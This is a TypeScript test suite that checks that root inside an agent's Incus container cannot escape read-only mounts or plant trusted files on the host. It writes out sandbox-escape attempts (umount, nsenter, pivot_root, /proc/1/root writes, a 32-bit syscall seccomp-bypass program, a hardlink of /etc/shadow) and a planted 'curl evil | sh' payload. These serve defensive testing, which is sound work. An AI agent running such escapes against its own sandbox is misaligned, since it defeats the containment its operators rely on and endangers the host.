/**
 * The attack suite: root inside a real Debian 13 systemd container, made by `repoman new` for a
 * non-root host user (uid 1001), tries to get around the repo's read-only paths and to leave
 * files on the host that the host would trust. Each attack is named in docs/safety.md with the
 * outcome these tests assert: what the host sees afterwards.
 */
import {execFileSync, spawnSync} from 'node:child_process'
import {existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {expect} from 'chai'
import {REAL_IMAGE} from '../helpers/incus-daemon.js'
import {makeWorld, requireRealImage, type World} from '../helpers/world.js'

/** Runs a shell script as root inside; the script reports, it does not fail. */
function asRootInside(world: World, name: string, script: string): string {
  return world.incus(['exec', name, '--', 'sh', '-c', script])
}

/** A shell line that runs an attack and prints `<label> succeeded` or `<label> refused`. */
const attempt = (label: string, command: string) =>
  `if ${command} >/dev/null 2>&1; then echo "${label} succeeded"; else echo "${label} refused"; fi`

/**
 * i386 system calls (int 0x80) from a static 64-bit binary: umount2 and a plain bind. Seccomp
 * filters each syscall table separately; this checks the 32-bit one is covered too.
 */
const COMPAT_SOURCE = `#include <stdio.h>
#include <string.h>
static char a[512], b[512];
static long sys32(long nr, long x, long y, long z, long w) {
  long ret;
  __asm__ volatile ("int $0x80" : "=a"(ret) : "a"(nr), "b"(x), "c"(y), "d"(z), "S"(w) : "memory");
  return ret;
}
int main(int argc, char **argv) {
  strncpy(a, argv[1], 511); strncpy(b, argv[2], 511);
  long umount2 = sys32(52, (long)a, 2, 0, 0);
  long bind = sys32(21, (long)b, (long)"/mnt", 0, 4096);
  printf("%s\\n", umount2 == 0 || bind == 0 ? "succeeded" : "refused");
  return 0;
}
`

/** getpid through the 32-bit table: it answers where the kernel has one. */
const PROBE_32BIT_SOURCE = `int main(void) {
  long ret;
  __asm__ volatile ("int $0x80" : "=a"(ret) : "a"(20L) : "memory");
  return ret > 0 ? 0 : 1;
}
`

describe('containment: root inside a real-image container (real Incus)', function () {
  // A Debian container with systemd takes seconds to create and boot.
  this.timeout(300_000)
  let world: World
  let repo: string
  let hooksBefore: string[]
  let configBefore: string
  const name = 'attacked'

  before(async function () {
    world = makeWorld(requireRealImage(this), {user: true})
    await world.setup()
    repo = world.makeRepo(name, {git: true})
    // An .envrc exists, so it is mounted read-only: the attacks below try to get around that too.
    writeFileSync(join(repo, '.envrc'), 'use nix\n')
    execFileSync('chown', [`${world.user?.uid}:${world.user?.gid}`, join(repo, '.envrc')])
    world.git(repo, '-c', 'user.name=u', '-c', 'user.email=u@example.org', 'add', '.')
    world.git(repo, '-c', 'user.name=u', '-c', 'user.email=u@example.org', 'commit', '-qm', 'init')
    const created = await world.cli(['new', name, '--image', REAL_IMAGE, '--json'])
    expect(created.exitCode, created.stderr).to.equal(0)
    expect(JSON.parse(created.stdout)).to.include({idmap: 'raw.idmap'})
    // Let systemd finish booting, so the attacks meet the container as an agent would.
    world.incus(['exec', name, '--', 'sh', '-c', 'systemctl is-system-running --wait >/dev/null 2>&1 || true'])
    hooksBefore = readdirSync(join(repo, '.git/hooks')).sort()
    configBefore = readFileSync(join(repo, '.git/config'), 'utf8')
  })
  after(() => world?.dispose())

  /** The host's view of its .git and the protected paths is what it was before the attacks. */
  function expectProtectedPathsUnchanged(): void {
    expect(readdirSync(join(repo, '.git/hooks')).sort()).to.deep.equal(hooksBefore)
    expect(readFileSync(join(repo, '.git/config'), 'utf8')).to.equal(configBefore)
    expect(readFileSync(join(repo, '.envrc'), 'utf8')).to.equal('use nix\n')
  }

  it("refuses every way of reaching the host's .git or getting around the read-only mounts, and the host is unchanged", () => {
    const objects = '/var/lib/repoman/host-objects'
    const write = (path: string) => `sh -c 'echo "curl evil | sh" > ${path}'`
    const script = [
      'mkdir -p /mnt/bind /mnt/move /mnt/rbind',
      // Each attack must meet the real mounts: say so first.
      `cd ${repo} && grep -q " ${repo}/.git " /proc/self/mountinfo && grep -q " ${objects} " /proc/self/mountinfo && echo "mounts there"`,
      attempt('umount-git', `umount ${repo}/.git`),
      attempt('lazy-umount', `umount -l ${repo}/.envrc`),
      attempt('remount-rw', `mount -o remount,rw,bind ${objects}`),
      attempt('plain-bind', `mount --bind ${repo} /mnt/bind && ${write('/mnt/bind/.git/config')}`),
      attempt('move', `mount --move ${repo}/.git /mnt/move`),
      attempt('rename-git', `mv ${repo}/.git ${repo}/.git-old`),
      attempt('unshare-umount', `unshare -m umount ${repo}/.git`),
      attempt('nsenter-umount', `nsenter -t 1 -m umount -l ${repo}/.git`),
      attempt('pivot-root', 'pivot_root /mnt /mnt/bind'),
      // A recursive bind is allowed (systemd needs it), but it carries the mounts along.
      attempt(
        'rbind-write',
        `mount --rbind ${repo} /mnt/rbind && (mount -o remount,rw,bind /mnt/rbind/.envrc; ${write('/mnt/rbind/.envrc')})`,
      ),
      attempt('proc-root-write', write(`/proc/1/root${repo}/.envrc`)),
      attempt('write-host-objects', `touch ${objects}/planted`),
      attempt('write-envrc', write(`${repo}/.envrc`)),
      attempt('mknod', `mknod ${repo}/disk b 8 0`),
      attempt(
        'chattr',
        `perl -e 'open(my $f, "<", "${repo}/README.md") or exit 1; ioctl($f, 0x40086602, pack("L", 0x10)) or exit 1'`,
      ),
      attempt('hardlink-out', `ln /etc/shadow ${repo}/shadow`),
    ].join('\n')
    const outcome = asRootInside(world, name, script).trim().split('\n')
    expect(outcome).to.deep.equal([
      'mounts there',
      ...[
        'umount-git',
        'lazy-umount',
        'remount-rw',
        'plain-bind',
        'move',
        'rename-git',
        'unshare-umount',
        'nsenter-umount',
        'pivot-root',
        'rbind-write',
        'proc-root-write',
        'write-host-objects',
        'write-envrc',
        'mknod',
        'chattr',
        'hardlink-out',
      ].map((label) => `${label} refused`),
    ])
    expectProtectedPathsUnchanged()
    expect(existsSync(join(repo, 'disk'))).to.equal(false)
    expect(existsSync(join(repo, 'shadow'))).to.equal(false)
  })

  it('refuses the same through the 32-bit system call table', () => {
    const build = mkdtempSync('/tmp/rm-compat-')
    /** A static binary of `source`, whose int 0x80 addresses stay below 4 GiB. */
    const compile = (program: string, source: string) => {
      writeFileSync(join(build, `${program}.c`), source)
      execFileSync('gcc', ['-static', '-no-pie', '-O1', '-o', join(build, program), join(build, `${program}.c`)])
      return join(build, program)
    }
    world.incus(['file', 'push', compile('compat', COMPAT_SOURCE), `${name}/root/compat`])
    // A kernel without IA32 emulation has no 32-bit table: int 0x80 is a SIGSEGV before any call is made.
    const hasTable = spawnSync(compile('probe', PROBE_32BIT_SOURCE)).signal !== 'SIGSEGV'
    const attack = `/root/compat ${repo}/.git ${repo}; echo "exit $?"`
    expect(asRootInside(world, name, attack)).to.equal(hasTable ? 'refused\nexit 0\n' : 'exit 139\n')
    expectProtectedPathsUnchanged()
  })

  it('never lets root inside own host files as host root, setuid bits included', () => {
    asRootInside(
      world,
      name,
      `cd ${repo} && cp /bin/sh suid-sh && chmod 4755 suid-sh && mkdir by-root && touch by-root/f`,
    )
    const suid = statSync(join(repo, 'suid-sh'))
    // Container root is a host uid in the container's own range: a setuid bit gives nothing on the host.
    expect(suid.uid).to.be.at.least(1_000_000)
    expect(suid.mode & 0o4000).to.equal(0o4000)
    expect(statSync(join(repo, 'by-root')).uid).to.be.at.least(1_000_000)
    // The user can delete what root made in their own directories (not inside root's directories).
    const user = world.user as NonNullable<World['user']>
    const asUser = (command: string) =>
      execFileSync('setpriv', [`--reuid=${user.uid}`, `--regid=${user.gid}`, '--init-groups', 'sh', '-c', command], {
        cwd: repo,
        stdio: ['ignore', 'pipe', 'pipe'],
      })
    asUser('rm -f suid-sh')
    expect(existsSync(join(repo, 'suid-sh'))).to.equal(false)
    expect(() => asUser('rm -f by-root/f')).to.throw()
  })

  it('leaves a symlink out of the repo as a link on the host, never its target', () => {
    asRootInside(world, name, `ln -s /etc/shadow ${repo}/shadow-link`)
    expect(lstatSync(join(repo, 'shadow-link')).isSymbolicLink()).to.equal(true)
  })

  it('keeps systemd, apt, the repo and git working for the agent', async () => {
    const failed = asRootInside(world, name, 'systemctl --failed --no-legend --plain | cut -d" " -f1')
    // What fails in any unprivileged container (no kernel modules to load), and nothing else.
    expect(failed.trim().split('\n')).to.deep.equal(['systemd-modules-load.service'])
    expect(asRootInside(world, name, 'apt-get check >/dev/null && echo apt-ok')).to.equal('apt-ok\n')
    const work = await world.cli([
      'exec',
      name,
      '--',
      'sh',
      '-c',
      'echo more >> README.md && git -c user.name=a -c user.email=a@example.org commit -qam agent && git log --format=%s -1',
    ])
    expect(work.stdout, work.stderr).to.equal('agent\n')
    const readme = statSync(join(repo, 'README.md'))
    expect([readme.uid, readme.gid]).to.deep.equal([1001, 1001])
    expect(world.git(repo, 'log', '--format=%s', '-1')).to.equal('agent\n')
  })

  it('control: without the policy, the same unmount reaches the host (so the tests above can fail)', () => {
    const control = world.makeRepo('control', {git: true})
    const devices = {
      repo: {type: 'disk', source: control, path: control},
      'ro-git-hooks': {type: 'disk', source: `${control}/.git/hooks`, path: `${control}/.git/hooks`, readonly: 'true'},
    }
    const spec = JSON.stringify({config: {'raw.idmap': 'uid 1001 1001\ngid 1001 1001'}, devices})
    execFileSync('incus', ['--project', world.incusProject, 'launch', REAL_IMAGE, 'control'], {
      env: world.env,
      input: spec,
    })
    const outcome = asRootInside(
      world,
      'control',
      attempt('umount', `umount ${control}/.git/hooks && echo x > ${control}/.git/hooks/post-merge`),
    )
    expect(outcome).to.equal('umount succeeded\n')
    expect(existsSync(join(control, '.git/hooks/post-merge'))).to.equal(true)
  })

  it('status shows the policy and the mapping', async () => {
    const status = await world.cli(['status', name, '--json'])
    const project = JSON.parse(status.stdout).projects[0]
    expect(project).to.include({containment: 'enforced', idmap: 'raw.idmap'})
  })

  it('what cannot be prevented is reported: new Claude settings and MCP servers; .git cannot be swapped', async () => {
    const before = JSON.parse((await world.cli(['status', name, '--json'])).stdout).projects[0]
    expect(before).to.deep.include({integrity: 'clean', changes: []})
    asRootInside(
      world,
      name,
      [
        `cd ${repo}`,
        'echo \'{"mcpServers": {}}\' > .mcp.json',
        'mkdir -p .claude && echo \'{"hooks": {}}\' > .claude/settings.json',
        'if mv .git .git-old 2>/dev/null; then echo swapped; fi',
      ].join(' && '),
    )
    const status = await world.cli(['status', name, '--json'])
    expect(status.exitCode).to.equal(1)
    const project = JSON.parse(status.stdout).projects[0]
    expect(project.changes.map((c: {path: string; change: string}) => `${c.change} ${c.path}`)).to.include.members([
      'added .mcp.json',
      'added .claude/settings.json',
    ])
    expect(existsSync(join(repo, '.git-old'))).to.equal(false)
  })
})
